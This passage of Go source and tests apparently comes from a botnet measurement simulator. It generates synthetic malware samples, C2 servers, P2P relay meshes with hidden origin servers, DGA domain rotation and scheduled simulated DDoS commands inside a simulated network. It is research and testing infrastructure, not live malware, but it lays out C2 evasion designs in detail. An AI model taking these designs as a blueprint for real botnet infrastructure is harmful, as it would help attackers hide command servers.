	for _, f := range sc.Families {
		if f == family {
			return true
		}
	}
	return false
}

// Defaults fills zero knobs with the pack defaults. Only the knobs
// are touched; an empty Families list stays empty (disabled).
func (sc *ScenarioConfig) Defaults() {
	if len(sc.Families) == 0 {
		return
	}
	if sc.P2P.Cells <= 0 {
		sc.P2P.Cells = 2
	}
	if sc.P2P.RelaysPerCell <= 0 {
		sc.P2P.RelaysPerCell = 3
	}
	if sc.P2P.Samples <= 0 {
		sc.P2P.Samples = 24
	}
	if sc.DGA.RotateDays <= 0 {
		sc.DGA.RotateDays = 7
	}
	if sc.DGA.Windows <= 0 {
		sc.DGA.Windows = 6
	}
	if sc.DGA.Samples <= 0 {
		sc.DGA.Samples = 30
	}
}

// Validate checks the scenario config, returning an error naming the
// offending field. Overrides are compiled (never registered) here, so
// a config rejected at validation leaves no trace in the registry.
func (sc *ScenarioConfig) Validate() error {
	seen := map[string]bool{}
	for _, f := range sc.Families {
		if f == "" {
			return fmt.Errorf("scenario.families: empty family name")
		}
		if seen[f] {
			return fmt.Errorf("scenario.families: duplicate %q", f)
		}
		seen[f] = true
		if _, ok := c2.Lookup(f); !ok {
			if _, ok := sc.SpecOverrides[f]; !ok {
				return fmt.Errorf("scenario.families: unknown family %q (not registered, no spec override)", f)
			}
		}
	}
	for name, raw := range sc.SpecOverrides {
		ps, err := parseSpecOverride(name, raw)
		if err != nil {
			return err
		}
		if _, err := spec.Compile(ps); err != nil {
			return fmt.Errorf("scenario.spec_overrides[%s]: %v", name, err)
		}
	}
	if sc.P2P.Cells < 0 || sc.P2P.RelaysPerCell < 0 || sc.P2P.Samples < 0 {
		return fmt.Errorf("scenario.p2p: negative knob")
	}
	if sc.DGA.RotateDays < 0 || sc.DGA.Windows < 0 || sc.DGA.Samples < 0 {
		return fmt.Errorf("scenario.dga: negative knob")
	}
	return nil
}

// Equal reports configuration equality (field-wise; family order is
// significant because it is generation order).
func (sc *ScenarioConfig) Equal(other ScenarioConfig) bool {
	a, _ := json.Marshal(sc)
	b, _ := json.Marshal(&other)
	return string(a) == string(b)
}

func parseSpecOverride(name, raw string) (spec.ProtocolSpec, error) {
	var ps spec.ProtocolSpec
	if err := json.Unmarshal([]byte(raw), &ps); err != nil {
		return ps, fmt.Errorf("scenario.spec_overrides[%s]: bad JSON: %v", name, err)
	}
	if ps.Name != name {
		return ps, fmt.Errorf("scenario.spec_overrides[%s]: spec name %q does not match key", name, ps.Name)
	}
	return ps, nil
}

// registerOverrides compiles and registers every spec override. A
// family already registered with a byte-identical spec is a no-op, so
// repeated world generation in one process stays legal; a conflicting
// re-registration is an error.
func (sc *ScenarioConfig) registerOverrides() error {
	names := make([]string, 0, len(sc.SpecOverrides))
	for name := range sc.SpecOverrides {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		ps, err := parseSpecOverride(name, sc.SpecOverrides[name])
		if err != nil {
			return err
		}
		if err := c2.RegisterSpec(ps); err != nil {
			return fmt.Errorf("scenario.spec_overrides[%s]: %v", name, err)
		}
	}
	return nil
}

// scenarioRNG derives family's dedicated generation stream. Keyed off
// the world seed and the family name only, so adding a second pack
// never shifts the first one's draws.
func scenarioRNG(seed int64, family string) *rand.Rand {
	return rand.New(rand.NewSource(detrand.Seed(seed, "scenario", family)))
}

// generateScenarios appends the enabled packs' samples and C2s to the
// population and returns their attack plans. Must run after the base
// population and attack planning so the base world is byte-identical
// with packs on or off.
func (ps *populationState) generateScenarios(reg *geo.Registry) ([]AttackPlan, error) {
	sc := ps.cfg.Scenario
	if sc.IsZero() {
		return nil, nil
	}
	sc.Defaults()
	if err := sc.Validate(); err != nil {
		return nil, err
	}
	if err := sc.registerOverrides(); err != nil {
		return nil, err
	}
	var plans []AttackPlan
	for _, family := range sc.Families {
		p, ok := c2.Lookup(family)
		if !ok {
			return nil, fmt.Errorf("scenario: family %q not registered", family)
		}
		rng := scenarioRNG(ps.cfg.Seed, family)
		switch p.Spec().Topology {
		case spec.TopologyP2PRelay:
			plans = append(plans, ps.genRelayMesh(family, sc.P2P, rng)...)
		case spec.TopologyDGA:
			plans = append(plans, ps.genDGAChurn(family, sc.DGA, rng)...)
		default:
			plans = append(plans, ps.genPlainPack(family, rng)...)
		}
	}
	return plans, nil
}

// scenarioDates spreads n pack samples across the study calendar
// between fractional positions lo and hi (0 = first week, 1 = last).
func scenarioDates(n int, lo, hi float64, rng *rand.Rand) []time.Time {
	weeks := Calendar()
	first := int(lo * float64(len(weeks)-1))
	last := int(hi * float64(len(weeks)-1))
	if last <= first {
		last = first + 1
	}
	span := last - first
	dates := make([]time.Time, 0, n)
	for i := 0; i < n; i++ {
		w := weeks[first+i*span/n]
		dates = append(dates, w.Start.AddDate(0, 0, rng.Intn(7)))
	}
	sort.Slice(dates, func(i, j int) bool { return dates[i].Before(dates[j]) })
	return dates
}

// scenarioASN draws a hosting AS with the base world's weights but
// the pack's own RNG.
func (ps *populationState) scenarioASN(date time.Time, rng *rand.Rand) int {
	asns, weights := ps.asWeightsAt(date)
	return asns[pickWeighted(rng, weights)]
}

// scenarioTarget picks a victim address clear of the base plan's
// allocations (the base uses AddrAt(100+i) with i < ~50).
func scenarioTarget(reg *geo.Registry, i int) netip.Addr {
	victims := geo.VictimASes()
	as := reg.ByASN(victims[i%len(victims)].ASN)
	return as.AddrAt(200 + i)
}

// scenarioAttack builds one pack attack plan using the family's own
// command vocabulary.
func scenarioAttack(p c2.Protocol, c2Addr string, day time.Time, target netip.Addr, rng *rand.Rand) (AttackPlan, bool) {
	s := p.Spec()
	if s.Commands == nil || s.Commands.Text == nil || len(s.Commands.Text.Verbs) == 0 {
		return AttackPlan{}, false
	}
	verb := s.Commands.Text.Verbs[rng.Intn(len(s.Commands.Text.Verbs))]
	cmd := c2.Command{
		Attack:   verb.Attack,
		Target:   target,
		Port:     uint16(1024 + rng.Intn(60000)),
		Duration: time.Duration(30+rng.Intn(90)) * time.Second,
	}
	return AttackPlan{
		C2Address: c2Addr,
		// Same shape as the base plan: early first attempt, dense
		// 15-minute retries spanning ~32 h, so whichever 2-hour live
		// window the pipeline opens that day overlaps an attempt.
		When:    day.Add(time.Duration(5+rng.Intn(55)) * time.Minute),
		Retries: 130,
		Command: cmd,
	}, true
}

// genRelayMesh builds the p2p-relay pack: per cell, one hidden origin
// C2 (never referenced by a binary, so it stays out of intel and the
// D-C2 tables) plus a fan of relay nodes that dial it; pack binaries
// reference only the relays. Ground-truth attacks are scheduled on
// the origin and ripple out through the mesh.
func (ps *populationState) genRelayMesh(family string, knobs P2PScenario, rng *rand.Rand) []AttackPlan {
	port := familyC2Ports(family)[0]
	dates := scenarioDates(knobs.Samples, 0.1, 0.9, rng)
	first, last := dates[0], dates[len(dates)-1]

	type cell struct {
		origin *C2Spec
		relays []*C2Spec
	}
	cells := make([]cell, knobs.Cells)
	for ci := range cells {
		oIP := ps.allocIP(ps.scenarioASN(first, rng))
		origin := &C2Spec{
			Address: fmt.Sprintf("%s:%d", oIP, port),
			IP:      oIP, Port: port, ASN: mustASN(ps.reg, oIP),
			Family: family, Variant: "v1",
			Sticky: true, AttackLauncher: true,
			Birth: first.Add(-48 * time.Hour),
			Death: last.Add(72 * time.Hour),
		}
		ps.c2s[origin.Address] = origin
		ps.order = append(ps.order, origin)
		cells[ci].origin = origin
		for k := 0; k < knobs.RelaysPerCell; k++ {
			rIP := ps.allocIP(ps.scenarioASN(first, rng))
			relay := &C2Spec{
				Address: fmt.Sprintf("%s:%d", rIP, port),
				IP:      rIP, Port: port, ASN: mustASN(ps.reg, rIP),
				Family: family, Variant: "v1",
				Sticky: true,
				// Relays outlive the origin on neither side: born
				// after it (so the first upstream dial connects) and
				// dead before it (so redials never outlive the mesh).
				Birth:         first.Add(-24 * time.Hour),
				Death:         last.Add(48 * time.Hour),
				RelayUpstream: origin.Address,
			}
			ps.c2s[relay.Address] = relay
			ps.order = append(ps.order, relay)
			cells[ci].relays = append(cells[ci].relays, relay)
		}
	}

	for i, date := range dates {
		c := cells[i%len(cells)]
		variant := "v1"
		if rng.Intn(2) == 1 {
			variant = "v2"
		}
		s := &SampleSpec{
			Index: len(ps.samples), Date: date,
			Family: family, Variant: variant,
			Seed:      sampleSeed(ps.cfg.Seed, len(ps.samples)),
			ScanPorts: []uint16{23},
		}
		// Each binary carries two relay addresses from its cell
		// (mesh bootstrap list), rotating so every relay is
		// referenced.
		for k := 0; k < 2 && k < len(c.relays); k++ {
			relay := c.relays[(i+k)%len(c.relays)]
			s.C2Refs = append(s.C2Refs, relay.Address)
			bind(relay, s.Index, date)
		}
		ps.samples = append(ps.samples, s)
	}

	// One ground-truth command per cell per third of the pack's
	// sample days: issued by the hidden origin, observed by the
	// pipeline only at the relays.
	p, _ := c2.Lookup(family)
	var plans []AttackPlan
	ti := 0
	for i, date := range dates {
		if i%3 != 0 {
			continue
		}
		c := cells[i%len(cells)]
		if plan, ok := scenarioAttack(p, c.origin.Address, date, scenarioTarget(ps.reg, ti), rng); ok {
			plans = append(plans, plan)
			ti++
		}
	}
	return plans
}

// genDGAChurn builds the dga pack: consecutive RotateDays-long
// windows each get a fresh seed-deterministic domain with its own
// short-lived server; binaries reference the window's domain plus the
// next one (the generator's lookahead), so the referenced endpoint
// set churns on schedule.
func (ps *populationState) genDGAChurn(family string, knobs DGAScenario, rng *rand.Rand) []AttackPlan {
	port := familyC2Ports(family)[0]
	rotate := time.Duration(knobs.RotateDays) * 24 * time.Hour
	// The campaign occupies a contiguous stretch starting a quarter
	// into the study.
	weeks := Calendar()
	epoch := weeks[len(weeks)/4].Start
	span := time.Duration(knobs.Windows) * rotate

	windows := make([]*C2Spec, knobs.Windows)
	for i := range windows {
		start := epoch.Add(time.Duration(i) * rotate)
		ip := ps.allocIP(ps.scenarioASN(start, rng))
		domain := dgaDomain(ps.cfg.Seed, family, i)
		cs := &C2Spec{
			Address: fmt.Sprintf("%s:%d", domain, port),
			IsDNS:   true, Domain: domain,
			IP: ip, Port: port, ASN: mustASN(ps.reg, ip),
			Family: family, Variant: "v1",
			AttackLauncher: true,
			// Alive only for its window (plus slack): the churn IS
			// the lifespan schedule.
			Birth: start.Add(-6 * time.Hour),
			Death: start.Add(rotate).Add(6 * time.Hour),
		}
		ps.c2s[cs.Address] = cs
		ps.order = append(ps.order, cs)
		ps.dns[domain] = ip
		windows[i] = cs
	}

	for i := 0; i < knobs.Samples; i++ {
		offset := time.Duration(float64(span) * float64(i) / float64(knobs.Samples))
		date := epoch.Add(offset).Truncate(24 * time.Hour).Add(time.Duration(rng.Intn(20)) * time.Hour)
		win := int(date.Sub(epoch) / rotate)
		if win < 0 {
			win = 0
		}
		if win >= len(windows) {
			win = len(windows) - 1
		}
		variant := "v1"
		if rng.Intn(2) == 1 {
			variant = "v2"
		}
		s := &SampleSpec{
			Index: len(ps.samples), Date: date,
			Family: family, Variant: variant,
			Seed:      sampleSeed(ps.cfg.Seed, len(ps.samples)),
			ScanPorts: []uint16{23, 2323},
		}
		// Current window's domain first, then the generator's next
		// output: a binary caught late in a window already knows the
		// upcoming endpoint.
		s.C2Refs = append(s.C2Refs, windows[win].Address)
		bind(windows[win], s.Index, date)
		if win+1 < len(windows) {
			s.C2Refs = append(s.C2Refs, windows[win+1].Address)
			bind(windows[win+1], s.Index, date)
		}
		ps.samples = append(ps.samples, s)
	}

	// One command per window, anchored to a sample day inside it.
	p, _ := c2.Lookup(family)
	var plans []AttackPlan
	for i, cs := range windows {
		if len(cs.SampleIdx) == 0 {
			continue
		}
		day := ps.samples[cs.SampleIdx[0]].Date
		if plan, ok := scenarioAttack(p, cs.Address, day, scenarioTarget(ps.reg, 100+i), rng); ok {
			plans = append(plans, plan)
		}
	}
	return plans
}

// genPlainPack is the fallback for enabled families with the default
// client-server topology (e.g. a SpecOverrides-defined family): a
// small sample population bound to fresh per-family servers.
func (ps *populationState) genPlainPack(family string, rng *rand.Rand) []AttackPlan {
	ports := familyC2Ports(family)
	if len(ports) == 0 {
		return nil
	}
	port := ports[0]
	const n = 12
	dates := scenarioDates(n, 0.1, 0.9, rng)
	first, last := dates[0], dates[len(dates)-1]
	ip := ps.allocIP(ps.scenarioASN(first, rng))
	cs := &C2Spec{
		Address: fmt.Sprintf("%s:%d", ip, port),
		IP:      ip, Port: port, ASN: mustASN(ps.reg, ip),
		Family: family, Variant: "v1",
		Sticky: true, AttackLauncher: true,
		Birth: first.Add(-24 * time.Hour),
		Death: last.Add(48 * time.Hour),
	}
	ps.c2s[cs.Address] = cs
	ps.order = append(ps.order, cs)
	for _, date := range dates {
		s := &SampleSpec{
			Index: len(ps.samples), Date: date,
			Family: family, Variant: "v1",
			Seed:      sampleSeed(ps.cfg.Seed, len(ps.samples)),
			C2Refs:    []string{cs.Address},
			ScanPorts: []uint16{23},
		}
		bind(cs, s.Index, date)
		ps.samples = append(ps.samples, s)
	}
	p, _ := c2.Lookup(family)
	var plans []AttackPlan
	if plan, ok := scenarioAttack(p, cs.Address, dates[0], scenarioTarget(ps.reg, 150), rng); ok {
		plans = append(plans, plan)
	}
	return plans
}

// dgaDomain derives window i's domain for family: 12 base-26 letters
// from a keyed hash, plus a family-scoped zone. A pure function of
// (seed, family, window) — the "algorithm" both sides of a real DGA
// share.
func dgaDomain(seed int64, family string, i int) string {
	h := detrand.Hash64(seed, "dga", fmt.Sprintf("%s/%d", family, i))
	label := make([]byte, 12)
	for j := range label {
		label[j] = byte('a' + h%26)
		h /= 26
		if h == 0 {
			h = detrand.Hash64(seed, "dga2", fmt.Sprintf("%s/%d/%d", family, i, j))
		}
	}
	return fmt.Sprintf("%s.%s-gen.xyz", label, family)
}

// mustASN resolves the hosting AS of an allocated address.
func mustASN(reg *geo.Registry, ip netip.Addr) int {
	if as, ok := reg.Lookup(ip); ok {
		return as.ASN
	}
	return 0
}
