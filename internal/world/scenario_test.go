package world

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"malnet/internal/c2"
)

func scenarioTestConfig(seed int64, families ...string) Config {
	cfg := DefaultConfig(seed)
	cfg.TotalSamples = 150
	cfg.Scenario.Families = families
	cfg.Scenario.Defaults()
	return cfg
}

// TestScenarioBaseWorldUnchanged is the pack-generation contract:
// enabling packs appends to the population without perturbing one
// byte of the base world — same binaries, same C2s, same attack-plan
// prefix.
func TestScenarioBaseWorldUnchanged(t *testing.T) {
	base := Generate(scenarioTestConfig(7))
	packed := Generate(scenarioTestConfig(7, c2.FamilyWisp, c2.FamilySora))

	if len(packed.Samples) <= len(base.Samples) {
		t.Fatalf("packs added no samples: %d vs %d", len(packed.Samples), len(base.Samples))
	}
	for i, s := range base.Samples {
		ps := packed.Samples[i]
		a, err := s.SHA256()
		if err != nil {
			t.Fatal(err)
		}
		b, err := ps.SHA256()
		if err != nil {
			t.Fatal(err)
		}
		if a != b {
			t.Fatalf("base sample %d binary changed under scenario packs: %s vs %s", i, a, b)
		}
	}
	for addr, cs := range base.C2s {
		pcs := packed.C2s[addr]
		if pcs == nil {
			t.Fatalf("base C2 %s missing under scenario packs", addr)
		}
		if fmt.Sprintf("%+v", *cs) != fmt.Sprintf("%+v", *pcs) {
			t.Fatalf("base C2 %s changed:\n%+v\n%+v", addr, *cs, *pcs)
		}
	}
	if len(packed.Attacks) <= len(base.Attacks) {
		t.Fatal("packs added no attack plans")
	}
	for i, p := range base.Attacks {
		if fmt.Sprintf("%+v", p) != fmt.Sprintf("%+v", packed.Attacks[i]) {
			t.Fatalf("base attack plan %d changed under scenario packs", i)
		}
	}
}

// TestScenarioDeterminism: the same seed renders the same packed
// ground truth, byte for byte.
func TestScenarioDeterminism(t *testing.T) {
	var a, b bytes.Buffer
	if err := Generate(scenarioTestConfig(11, c2.FamilyWisp, c2.FamilySora)).WriteGroundTruth(&a); err != nil {
		t.Fatal(err)
	}
	if err := Generate(scenarioTestConfig(11, c2.FamilyWisp, c2.FamilySora)).WriteGroundTruth(&b); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatal("same seed, different packed ground truth")
	}
	var c bytes.Buffer
	if err := Generate(scenarioTestConfig(12, c2.FamilyWisp, c2.FamilySora)).WriteGroundTruth(&c); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a.Bytes(), c.Bytes()) {
		t.Fatal("different seeds, identical packed ground truth")
	}
}

// TestScenarioRelayMeshWiring checks the p2p-relay shape: hidden
// origins that no binary references, relay servers wired to dial
// them, pack binaries referencing relays only, and attack plans
// scheduled on the origins.
func TestScenarioRelayMeshWiring(t *testing.T) {
	cfg := scenarioTestConfig(13, c2.FamilyWisp)
	w := Generate(cfg)

	var origins, relays []*C2Spec
	for _, cs := range w.C2s {
		if cs.Family != c2.FamilyWisp {
			continue
		}
		if cs.RelayUpstream != "" {
			relays = append(relays, cs)
		} else {
			origins = append(origins, cs)
		}
	}
	if len(origins) != cfg.Scenario.P2P.Cells {
		t.Fatalf("want %d origins, got %d", cfg.Scenario.P2P.Cells, len(origins))
	}
	if want := cfg.Scenario.P2P.Cells * cfg.Scenario.P2P.RelaysPerCell; len(relays) != want {
		t.Fatalf("want %d relays, got %d", want, len(relays))
	}
	for _, o := range origins {
		if len(o.SampleIdx) != 0 {
			t.Fatalf("origin %s is referenced by %d binaries; must stay hidden", o.Address, len(o.SampleIdx))
		}
	}
	for _, r := range relays {
		up := w.C2s[r.RelayUpstream]
		if up == nil || up.Family != c2.FamilyWisp || up.RelayUpstream != "" {
			t.Fatalf("relay %s has bad upstream %q", r.Address, r.RelayUpstream)
		}
		srv := w.Servers[r.Address]
		if srv == nil || srv.Config().Relay == nil {
			t.Fatalf("relay %s has no relay-configured server", r.Address)
		}
		if got := srv.Config().Relay.Upstream.IP; got != up.IP {
			t.Fatalf("relay %s dials %s, want %s", r.Address, got, up.IP)
		}
		if !r.Birth.After(up.Birth) || !r.Death.Before(up.Death) {
			t.Fatalf("relay %s lifetime [%v,%v) not inside origin's [%v,%v)",
				r.Address, r.Birth, r.Death, up.Birth, up.Death)
		}
	}

	packSamples := 0
	for _, s := range w.Samples {
		if s.Family != c2.FamilyWisp {
			continue
		}
		packSamples++
		if s.P2P {
			t.Fatalf("wisp sample %d marked P2P; relay bots must run the live stage", s.Index)
		}
		for _, ref := range s.C2Refs {
			if w.C2s[ref] == nil || w.C2s[ref].RelayUpstream == "" {
				t.Fatalf("wisp sample %d references non-relay %s", s.Index, ref)
			}
		}
	}
	if packSamples != cfg.Scenario.P2P.Samples {
		t.Fatalf("want %d wisp samples, got %d", cfg.Scenario.P2P.Samples, packSamples)
	}

	originAttacks := 0
	for _, p := range w.Attacks {
		cs := w.C2s[p.C2Address]
		if cs != nil && cs.Family == c2.FamilyWisp {
			if len(cs.SampleIdx) != 0 || cs.RelayUpstream != "" {
				t.Fatalf("wisp attack scheduled on %s; want a hidden origin", p.C2Address)
			}
			originAttacks++
		}
	}
	if originAttacks == 0 {
		t.Fatal("no attacks scheduled on wisp origins")
	}
}

// TestScenarioDGAWindows checks the churn shape: one domain per
// rotation window, disjoint consecutive lifetimes, DNS registered,
// and samples referencing their window's endpoint (plus lookahead).
func TestScenarioDGAWindows(t *testing.T) {
	cfg := scenarioTestConfig(17, c2.FamilySora)
	w := Generate(cfg)

	var windows []*C2Spec
	for _, cs := range w.C2s {
		if cs.Family == c2.FamilySora {
			windows = append(windows, cs)
		}
	}
	if len(windows) != cfg.Scenario.DGA.Windows {
		t.Fatalf("want %d DGA windows, got %d", cfg.Scenario.DGA.Windows, len(windows))
	}
	domains := map[string]bool{}
	for _, cs := range windows {
		if !cs.IsDNS || cs.Domain == "" {
			t.Fatalf("DGA window %s is not domain-based", cs.Address)
		}
		if domains[cs.Domain] {
			t.Fatalf("duplicate DGA domain %s", cs.Domain)
		}
		domains[cs.Domain] = true
		if _, ok := w.DNSZone[cs.Domain]; !ok {
			t.Fatalf("DGA domain %s not in the DNS zone", cs.Domain)
		}
		if !strings.Contains(cs.Domain, c2.FamilySora) {
			t.Fatalf("DGA domain %s missing family zone", cs.Domain)
		}
	}

	packSamples := 0
	for _, s := range w.Samples {
		if s.Family != c2.FamilySora {
			continue
		}
		packSamples++
		if len(s.C2Refs) == 0 {
			t.Fatalf("sora sample %d has no C2 refs", s.Index)
		}
		// The first ref is the current window: its server must be
		// alive on the sample's date.
		cur := w.C2s[s.C2Refs[0]]
		if cur == nil || !cur.LiveAt(s.Date) {
			t.Fatalf("sora sample %d (%s): first ref %s not live that day",
				s.Index, s.Date.Format("2006-01-02"), s.C2Refs[0])
		}
	}
	if packSamples != cfg.Scenario.DGA.Samples {
		t.Fatalf("want %d sora samples, got %d", cfg.Scenario.DGA.Samples, packSamples)
	}
}

// TestScenarioConfigValidate covers the config surface: unknown
// families, bad overrides, and the knobs.
func TestScenarioConfigValidate(t *testing.T) {
	ok := ScenarioConfig{Families: []string{c2.FamilyWisp}}
	if err := ok.Validate(); err != nil {
		t.Fatalf("valid config rejected: %v", err)
	}
	cases := []struct {
		name string
		sc   ScenarioConfig
		want string
	}{
		{"unknown family", ScenarioConfig{Families: []string{"nosuch"}}, "unknown family"},
		{"duplicate family", ScenarioConfig{Families: []string{"wisp", "wisp"}}, "duplicate"},
		{"empty family", ScenarioConfig{Families: []string{""}}, "empty"},
		{"bad override JSON", ScenarioConfig{SpecOverrides: map[string]string{"x": "{"}}, "bad JSON"},
		{"override name mismatch", ScenarioConfig{SpecOverrides: map[string]string{"x": `{"name":"y","transport":"text","framing":"lines"}`}}, "does not match"},
		{"override does not compile", ScenarioConfig{SpecOverrides: map[string]string{"x": `{"name":"x","framing":"bogus"}`}}, "unknown framing"},
		{"negative p2p knob", ScenarioConfig{Families: []string{"wisp"}, P2P: P2PScenario{Cells: -1}}, "negative"},
		{"negative dga knob", ScenarioConfig{Families: []string{"sora"}, DGA: DGAScenario{RotateDays: -1}}, "negative"},
	}
	for _, tc := range cases {
		err := tc.sc.Validate()
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want error containing %q", tc.name, err, tc.want)
		}
	}
}

// TestScenarioSpecOverrideFamily runs a pack for a family that exists
// only as a SpecOverrides entry: the spec registers at generation and
// the fallback client-server pack materializes it.
func TestScenarioSpecOverrideFamily(t *testing.T) {
	const custom = "testpack"
	override := `{
		"name": "testpack",
		"transport": "text",
		"framing": "lines",
		"login": ["HELLO testpack\n"],
		"session": {"ready": "line-prefix", "ready_pat": "HELLO"},
		"commands": {"text": {"verbs": [{"attack": 1, "verb": "FLOOD"}]}},
		"ports": [4444]
	}`
	cfg := scenarioTestConfig(19, custom)
	cfg.Scenario.SpecOverrides = map[string]string{custom: override}
	w := Generate(cfg)

	if _, ok := c2.Lookup(custom); !ok {
		t.Fatal("override family not registered after generation")
	}
	var samples, c2s int
	for _, s := range w.Samples {
		if s.Family == custom {
			samples++
		}
	}
	for _, cs := range w.C2s {
		if cs.Family == custom {
			c2s++
			if cs.Port != 4444 {
				t.Fatalf("override family server on port %d, want 4444", cs.Port)
			}
		}
	}
	if samples == 0 || c2s == 0 {
		t.Fatalf("override pack produced %d samples, %d C2s", samples, c2s)
	}
	// Regenerating with the identical override must be a no-op
	// registration, not a conflict.
	Generate(cfg)
}
