package world

import (
	"net/netip"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
	"malnet/internal/geo"
	"malnet/internal/intel"
	"malnet/internal/simclock"
	"malnet/internal/simnet"
)

// SampleSpec is the ground truth for one feed binary.
type SampleSpec struct {
	// Index is the sample's position in the feed.
	Index int
	// Date is the publication day (midnight UTC).
	Date time.Time
	// Family and Variant are the true lineage.
	Family, Variant string
	// P2P marks Mozi/Hajime samples.
	P2P bool
	// C2Refs are the "host:port" addresses baked into the binary.
	C2Refs []string
	// ScanPorts / ExploitIDs / LoaderName / DownloaderAddr shape
	// proliferation behavior.
	ScanPorts      []uint16
	ExploitIDs     []string
	LoaderName     string
	DownloaderAddr string
	// Evasion is the anti-sandbox gate baked into the binary
	// ("", "connectivity", or "strict").
	Evasion string
	// ForeignArch, when not MIPS, marks a decoy feed entry for
	// another architecture; the collection filter must skip it
	// (§2.2 keeps only MIPS 32B binaries).
	ForeignArch binfmt.Arch
	// Seed drives binary encoding so hashes are reproducible.
	Seed int64

	raw []byte
	sha string
}

// C2Spec is the ground truth for one C2 address.
type C2Spec struct {
	// Address is the reference form: "ip:port" or "name:port".
	Address string
	// IsDNS marks domain-based addresses.
	IsDNS bool
	// Domain is the name for DNS addresses.
	Domain string
	// IP and Port locate the server.
	IP   netip.Addr
	Port uint16
	// ASN is the hosting autonomous system.
	ASN int
	// Birth and Death bound the server's life. Death before the
	// first reference models the 60 % dead-on-arrival case.
	Birth, Death time.Time
	// Sticky marks long-lived, widely shared servers.
	Sticky bool
	// Family/Variant select the protocol the server speaks.
	Family, Variant string
	// SampleIdx are the referencing samples.
	SampleIdx []int
	// FirstRef/LastRef bound the reference dates (observed
	// lifespan ground truth).
	FirstRef, LastRef time.Time
	// AttackLauncher marks the 17 servers that issue DDoS
	// commands.
	AttackLauncher bool
	// Downloader marks servers co-hosting the loader on port 80.
	Downloader bool
	// Elusive applies the harsh duty cycle (the D-PC2 population).
	Elusive bool
	// RelayUpstream, when set, makes the server a P2P relay node:
	// it phones this origin C2 address for commands and re-issues
	// them to its own bot sessions (the p2p-relay scenario pack).
	RelayUpstream string
}

// LiveAt reports whether the server exists at t (duty cycle aside).
func (cs *C2Spec) LiveAt(t time.Time) bool {
	return !t.Before(cs.Birth) && t.Before(cs.Death)
}

// AttackPlan schedules one ground-truth DDoS command.
type AttackPlan struct {
	// C2Address keys into the world's C2 specs.
	C2Address string
	// When is the first issuance attempt; the server retries
	// hourly until a bot is connected.
	When time.Time
	// Retries bounds the re-issuance attempts.
	Retries int
	// Command is the attack.
	Command c2.Command
}

// World is a fully materialized simulation.
type World struct {
	Cfg   Config
	Clock *simclock.Clock
	Net   *simnet.Network
	Geo   *geo.Registry
	Intel *intel.Service

	// Samples is the feed in chronological order.
	Samples []*SampleSpec
	// C2s indexes ground-truth servers by address string.
	C2s map[string]*C2Spec
	// Servers are the live protocol servers by address string.
	Servers map[string]*c2.Server
	// DNSZone maps domains to addresses.
	DNSZone map[string]netip.Addr
	// Attacks is the ground-truth DDoS schedule.
	Attacks []AttackPlan
	// ProbeSubnets are the D-PC2 sweep targets.
	ProbeSubnets []simnet.Subnet
	// ProbeStart is when the two-week probing window opens.
	ProbeStart time.Time
	// PlantedElusive counts the elusive C2s planted in the probe
	// subnets (ground truth for D-PC2).
	PlantedElusive int
}

// Resolver is the signature of a DNS lookup against the world's zone.
// The zone is immutable once the world is generated, so a Resolver
// may be called from any number of goroutines concurrently.
type Resolver func(name string) (netip.Addr, bool)

// Resolve is the world's DNS: the resolver the sandbox consults in
// live mode.
func (w *World) Resolve(name string) (netip.Addr, bool) {
	ip, ok := w.DNSZone[name]
	return ip, ok
}
