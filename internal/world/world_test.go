package world

import (
	"bytes"
	"encoding/json"
	"math"
	"testing"
	"time"

	"malnet/internal/binfmt"
	"malnet/internal/c2"
)

func testWorld(t *testing.T) *World {
	t.Helper()
	return Generate(DefaultConfig(42))
}

func TestCalendarHas31Weeks(t *testing.T) {
	cal := Calendar()
	if len(cal) != 31 {
		t.Fatalf("weeks = %d, want 31 (Appendix E)", len(cal))
	}
	// Week 1 is 2021 ISO week 14 (early April 2021).
	if cal[0].Start.Year() != 2021 || cal[0].Start.Month() != time.April {
		t.Fatalf("week 1 starts %v", cal[0].Start)
	}
	// Weeks 21+ are in 2022.
	if cal[20].Start.Year() != 2022 {
		t.Fatalf("week 21 starts %v", cal[20].Start)
	}
	// Strictly increasing.
	for i := 1; i < len(cal); i++ {
		if !cal[i].Start.After(cal[i-1].Start) {
			t.Fatal("calendar not increasing")
		}
	}
	// Every week start is a Monday.
	for _, w := range cal {
		if w.Start.Weekday() != time.Monday {
			t.Fatalf("week %d starts on %v", w.Num, w.Start.Weekday())
		}
	}
}

func TestWeekOfRoundTrips(t *testing.T) {
	for _, w := range Calendar() {
		if got := WeekOf(w.Start.AddDate(0, 0, 3)); got != w.Num {
			t.Fatalf("WeekOf(mid week %d) = %d", w.Num, got)
		}
	}
	// A gap date maps to 0.
	gap := time.Date(2021, 9, 15, 0, 0, 0, 0, time.UTC) // between weeks 33 and 44
	if got := WeekOf(gap); got != 0 {
		t.Fatalf("WeekOf(gap) = %d", got)
	}
}

func TestPopulationTotals(t *testing.T) {
	w := testWorld(t)
	mips, decoys := 0, 0
	for _, s := range w.Samples {
		if s.ForeignArch == binfmt.ArchMIPS32BE {
			mips++
		} else {
			decoys++
		}
	}
	if mips != 1447 {
		t.Fatalf("MIPS samples = %d, want 1447", mips)
	}
	if decoys == 0 {
		t.Fatal("feed carries no foreign-arch decoys")
	}
	// C2 addresses referenced by samples (D-C2s scale ~1160).
	refC2s := 0
	for _, cs := range w.C2s {
		if len(cs.SampleIdx) > 0 {
			refC2s++
		}
	}
	if refC2s < 950 || refC2s > 1350 {
		t.Fatalf("referenced C2s = %d, want ~1160", refC2s)
	}
	// All samples dated inside study weeks.
	for _, s := range w.Samples {
		if WeekOf(s.Date) == 0 {
			t.Fatalf("sample %d dated %v outside study weeks", s.Index, s.Date)
		}
	}
}

func TestFamilyMixAndP2PShare(t *testing.T) {
	w := testWorld(t)
	fams := map[string]int{}
	p2p := 0
	for _, s := range w.Samples {
		fams[s.Family]++
		if s.P2P {
			p2p++
		}
	}
	for _, want := range []string{"mirai", "gafgyt", "mozi", "tsunami", "daddyl33t", "hajime", "vpnfilter"} {
		if fams[want] == 0 {
			t.Fatalf("family %s absent", want)
		}
	}
	if fams["mirai"] < fams["tsunami"] {
		t.Fatal("mirai should dominate tsunami")
	}
	share := float64(p2p) / float64(len(w.Samples))
